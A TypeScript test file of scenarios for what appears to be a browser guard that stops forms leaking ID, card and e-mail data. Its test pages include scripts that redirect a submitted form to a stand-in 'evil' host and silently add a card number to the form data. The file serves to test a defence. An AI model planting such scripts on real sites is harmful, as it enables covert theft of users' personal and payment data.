// Scenarios 12 to 19: forms whose content or destination is not what it seems, and those that go elsewhere than to a server.

import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Attempt } from '#tests/coverage/attempt.ts';
import { CARD, cardField, EMAIL, emailField, form, ID, idField, type Scenario } from '#tests/coverage/scenario.ts';
import { attach } from '#tests/support/attach.ts';
import { until } from '#tests/support/until.ts';

const send = '<button name="go" value="1">Send</button>';
const typed = [['[name=idcard]', ID]] as const;
const plain = { type: typed, send: 'button', value: ID, expected: 'held' } as const;
const ASK_EMAIL = { policy: { email: { unknown: 'hold' } } } as const;
const FILE = 'holiday.txt';

/** A file that is nothing by itself, on this machine's disk for the browser to read. */
function someFile(): string {
  const path = join(mkdtempSync(join(tmpdir(), 'coverage-')), FILE);
  writeFileSync(path, 'two weeks by the sea\n');
  return path;
}

/** First the question about the site, which is allowed; then the answer of this mode to the one about where it goes now. */
async function secondThoughts(attempt: Attempt): Promise<number> {
  await (await attempt.question()).press('Send this once');
  await attempt.questionAbout('evil');
  return 1 + (await attempt.answer());
}

/** Nothing of it reaches a server: what counts is the question, and whether the page's own handler ran afterwards. */
async function byMail(attempt: Attempt): Promise<string> {
  const { tab, mode } = attempt;
  await tab.type('[name=idcard]', ID);
  await tab.click('button');
  const says = await (await attempt.question()).text();
  if (!/another program, such as mail/i.test(says)) return `asked, but not about the mail program: ${says}`;
  // A browser without a mail program leaves the page for one of its own: the handler's word is with the server.
  const hasRun = () => attempt.world.requests().some(({ path }) => path === '/ran');
  if (hasRun()) return 'asked too late';
  await attempt.answer();
  if (mode === 'allowed')
    await until('the handler', () => Promise.resolve(hasRun()), { timeout: 5000 }).catch(() => false);
  const handed = hasRun() ? 'handed over' : 'nothing handed over';
  const decision = mode === 'refused' ? 'refused' : 'once';
  const rows = (await attempt.desk?.rows()) ?? [];
  const row = rows.some(
    (one) => one.channel === 'mail' && one.decision === decision && one.page === attempt.hosts.site,
  );
  return `held, ${handed}${row ? '' : ', not on the record'}`;
}

export const HANDLERS: readonly Scenario[] = [
  {
    ...plain,
    id: '12',
    what: 'A formdata handler adds a card number from outside the form: it is part of the question, and is sent once.',
    pages: () => ({
      'site /': `${cardField.replace('name="card"', 'id="card"')}${form(`${idField}${send}`)}
<script>document.forms[0].addEventListener('formdata', ({ formData }) => formData.append('pan', card.value));</script>`,
    }),
    type: [['#card', CARD], ...typed],
    value: CARD,
    says: [/card/i, /ID/],
    row: { kind: 'cc-number', channel: 'form' },
  },
  {
    id: '13',
    what: 'multipart with a file and an e-mail: both are on the record.',
    pages: () => ({
      'site /': form(
        `${emailField}<label>Copy of your passport <input type="file" name="passport"></label>${send}`,
        'method="post" action="/send" enctype="multipart/form-data"',
      ),
    }),
    type: [['[name=email]', EMAIL]],
    send: async (tab) => {
      await attach(tab, '[type=file]', someFile());
      await tab.click('button');
    },
    value: EMAIL,
    expected: 'held',
    says: [/e-mail/i, /\.txt/],
    also: async (attempt) => {
      const rows = await attempt.rows();
      const has = (kind: string, mask: RegExp) => rows.some((row) => row.kind === kind && mask.test(row.mask ?? ''));
      return [
        ...(has('email', /@/) ? [] : ['no row tells of the e-mail']),
        ...(has('document', /\.txt$/) ? [] : ['no row tells of the file']),
      ];
    },
  },
  {
    id: '14',
    what: 'A GET form with an e-mail: held at submit; the record says that it went in the address.',
    pages: () => ({ 'site /': form(`${emailField}${send}`, 'action="/send"') }),
    type: [['[name=email]', EMAIL]],
    send: 'button',
    value: EMAIL,
    expected: 'held',
    settings: ASK_EMAIL,
    row: { kind: 'email', channel: 'navigation' },
  },
  {
    ...plain,
    id: '15',
    what: 'A form of one site that posts to another: the recipient is where it goes.',
    pages: ({ third }) => ({ 'site /': form(`${idField}${send}`, `method="post" action="https://${third}/send"`) }),
    to: 'third',
    row: { channel: 'form' },
  },
  {
    ...plain,
    id: '16',
    what: 'A submit handler turns the form to another host once it was allowed: asked again, about that host.',
    pages: ({ evil }) => ({
      'site /': `${form(`${idField}${send}`)}
<script>document.forms[0].onsubmit = (event) => { event.target.action = 'https://${evil}/send'; };</script>`,
    }),
    to: 'evil',
    says: ['site16.test'],
    answer: secondThoughts,
    questions: 2,
    row: { channel: 'form' },
  },
  {
    ...plain,
    id: '17',
    what: 'A 307 answer sends the POST on to a third host: both are on the record.',
    pages: ({ third }) => ({
      'site /': form(`${idField}${send}`),
      'site /send': () => ({ status: 307, headers: { location: `https://${third}/send` }, body: '' }),
    }),
    row: { channel: 'form' },
    also: async (attempt) => {
      if (attempt.mode === 'refused') return [];
      const hop = (await attempt.rowsSoon('third')).some(({ via }) => via.includes(attempt.hosts.site));
      return hop ? [] : ['no row says that the third host has it, by way of the site'];
    },
  },
  {
    ...plain,
    id: '18',
    what: 'method=dialog: nothing leaves, nothing is asked.',
    pages: () => ({ 'site /': `<dialog open>${form(`${idField}${send}`, 'method="dialog"')}</dialog>` }),
    expected: 'nothing',
    also: async ({ tab }) =>
      (await tab.evaluate('document.querySelector("dialog").open')) ? ['the dialog is still open'] : [],
  },
  {
    id: '19',
    what: 'A form that goes to the mail program: the question says so.',
    pages: ({ third }) => ({
      'site /': `${form(`${idField}${send}`, `method="post" enctype="text/plain" action="mailto:office@${third}"`)}
<script>document.forms[0].onsubmit = () => navigator.sendBeacon('/ran');</script>`,
    }),
    value: ID,
    modes: ['refused', 'allowed'],
    run: byMail,
    expected: { off: '', refused: 'held, nothing handed over', allowed: 'held, handed over' },
    note: 'What a mail program does with it no server of the bench can see; there is no run without Whence.',
  },
];
